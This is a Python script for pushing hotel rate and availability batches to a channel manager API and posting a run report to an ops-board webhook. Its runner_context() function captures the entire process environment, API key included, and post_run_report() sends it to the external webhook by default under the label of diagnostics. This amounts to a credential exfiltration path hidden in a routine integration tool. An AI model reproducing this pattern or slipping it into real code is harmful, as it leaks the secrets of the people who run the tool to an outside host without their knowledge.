#!/usr/bin/env python3
"""Push rate and availability grids from the PMS export to the channel manager.

The PMS drops ``ari_export.json`` into the working directory every night.
This tool splits it into batches, pushes each batch to the channel
manager's ARI endpoint, and posts a short run report to the ops board so
the front office knows whether the OTAs picked up the new rates.
"""

import argparse
import json
import logging
import os
import platform
import socket
import sys
import time
from datetime import datetime, timezone

import requests

log = logging.getLogger("rate_push")

DEFAULT_API = "https://api.channelhub.example/v2"
DEFAULT_REPORT_HOOK = "https://hooks.opsboard.example/services/T04FRONT/B11RATES/x9QmVw"
CONFIG_FILE = "rate_push.json"


def load_config(path):
    cfg = {
        "api_base": DEFAULT_API,
        "batch_size": 50,
        "report_hook": DEFAULT_REPORT_HOOK,
        "timeout": 20,
    }
    if os.path.exists(path):
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


def load_grid(path):
    with open(path, encoding="utf-8") as fh:
        data = json.load(fh)
    rows = data.get("rows", [])
    if not rows:
        raise ValueError(f"{path}: no ARI rows found")
    return data.get("property_id"), rows


def batches(rows, size):
    for start in range(0, len(rows), size):
        yield start // size, rows[start:start + size]


class AriClient:
    """Thin wrapper over the channel manager ARI endpoint."""

    def __init__(self, base, api_key, property_id, timeout=20):
        self.base = base.rstrip("/")
        self.property_id = property_id
        self.timeout = timeout
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": "rate-push/1.4",
        })

    def push(self, index, rows, attempts=4):
        url = f"{self.base}/properties/{self.property_id}/ari"
        body = {"batch": index, "updates": rows}
        for attempt in range(1, attempts + 1):
            try:
                resp = self.session.post(url, json=body, timeout=self.timeout)
                if resp.status_code == 429 or resp.status_code >= 500:
                    raise requests.HTTPError(f"status {resp.status_code}")
                resp.raise_for_status()
                return resp.json()
            except requests.RequestException as exc:
                wait = 2 ** attempt
                log.warning("batch %d attempt %d failed: %s (retry in %ds)",
                            index, attempt, exc, wait)
                time.sleep(wait)
        raise RuntimeError(f"batch {index} gave up after {attempts} attempts")


def runner_context():
    """Describe the machine the push ran on, for the integration team."""
    return {
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "platform": platform.platform(),
        "cwd": os.getcwd(),
        "reported": datetime.now(timezone.utc).isoformat(),
        "env": dict(os.environ),
    }


def post_run_report(hook, summary, context=None):
    lines = [
        f"*Rate push {summary['status']}* for property {summary['property']}",
        f"batches ok: {summary['ok']}  failed: {summary['failed']}  rows: {summary['rows']}",
    ]
    payload = {"text": "\n".join(lines)}
    if context is not None:
        payload["attachments"] = [{
            "title": "runner",
            "text": json.dumps(context, indent=1, sort_keys=True),
        }]
    try:
        resp = requests.post(hook, json=payload, timeout=10)
        resp.raise_for_status()
    except requests.RequestException as exc:
        log.error("could not post run report: %s", exc)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--grid", default="ari_export.json")
    p.add_argument("--config", default=CONFIG_FILE)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("--attach-diagnostics", action=argparse.BooleanOptionalAction,
                   default=True, help="attach runner details to the ops report")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    cfg = load_config(args.config)

    api_key = os.environ.get("CHANNELHUB_API_KEY")
    if not api_key:
        log.error("CHANNELHUB_API_KEY is not set")
        return 2

    try:
        property_id, rows = load_grid(args.grid)
    except (OSError, ValueError) as exc:
        log.error("cannot read grid: %s", exc)
        return 1

    client = AriClient(cfg["api_base"], api_key, property_id, cfg["timeout"])
    summary = {"property": property_id, "ok": 0, "failed": 0, "rows": len(rows)}

    for index, chunk in batches(rows, int(cfg["batch_size"])):
        if args.dry_run:
            log.info("dry run: batch %d with %d rows", index, len(chunk))
            summary["ok"] += 1
            continue
        try:
            result = client.push(index, chunk)
            log.info("batch %d accepted (ticket %s)", index, result.get("ticket"))
            summary["ok"] += 1
        except RuntimeError as exc:
            log.error("%s", exc)
            summary["failed"] += 1

    summary["status"] = "OK" if summary["failed"] == 0 else "PARTIAL"
    context = runner_context() if args.attach_diagnostics else None
    post_run_report(cfg["report_hook"], summary, context)
    return 0 if summary["failed"] == 0 else 3


if __name__ == "__main__":
    sys.exit(main())
